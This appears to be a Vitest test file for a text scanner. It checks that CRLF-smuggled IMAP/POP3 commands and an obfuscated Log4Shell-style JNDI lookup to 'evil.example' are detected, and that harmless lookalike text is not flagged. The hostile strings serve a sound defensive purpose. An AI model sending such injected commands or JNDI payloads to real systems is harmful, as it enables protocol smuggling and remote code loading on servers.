import { describe, expect, it } from "vitest";
import { inspect } from "./inspect.js";

const kinds = (text: string) => [...new Set(inspect(text).map((f) => f.kind))];

describe("mail commands after a line break", () => {
  it.each(["\r\nA1 APPEND saved-messages (\\Seen) {310}", "\r\na002 copy 2:4 MEETING", "\r\nlist 3", "\r\nQUIT"])(
    "detects %j",
    (text) => {
      expect(kinds(text)).toContain("crlf-injection");
    },
  );

  it.each(["Shopping\r\nlist of things", "Notes:\r\nquite early please", "A1 list 3"])("does not flag %j", (text) => {
    expect(inspect(text)).toEqual([]);
  });
});

describe("JNDI lookups behind a default-value expression", () => {
  it("detects `{jndi:` after a `$\u007b...}` default-value expression", () => {
    expect(kinds("ua $\u007b:1337:-x$}{jndi:ldap://evil.example/a}")).toContain("code-injection");
  });

  it("does not flag braces in prose", () => {
    expect(inspect("{jindi} and {ndi: 2}")).toEqual([]);
  });
});
